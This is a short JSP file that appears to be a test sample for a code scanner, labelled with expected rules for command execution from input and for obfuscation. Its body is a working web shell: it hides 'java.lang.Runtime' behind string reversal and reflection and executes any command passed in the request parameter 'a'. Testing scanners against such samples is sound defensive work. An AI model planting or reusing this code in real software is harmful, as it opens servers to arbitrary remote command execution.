<%-- expect rule=jsp.exec-input min=90 rule=jsp.obfuscation --%>
<%
    StringBuilder sb = new StringBuilder();
    sb.append("emitnuR.g").append("nal.avaj");
    String cls = sb.reverse().toString();
    String arg = request.getParameter("a");
    Object rt = Class.forName(cls).getMethod("getRuntime").invoke(null);
    rt.getClass().getMethod("exec", String.class).invoke(rt, arg);
%>
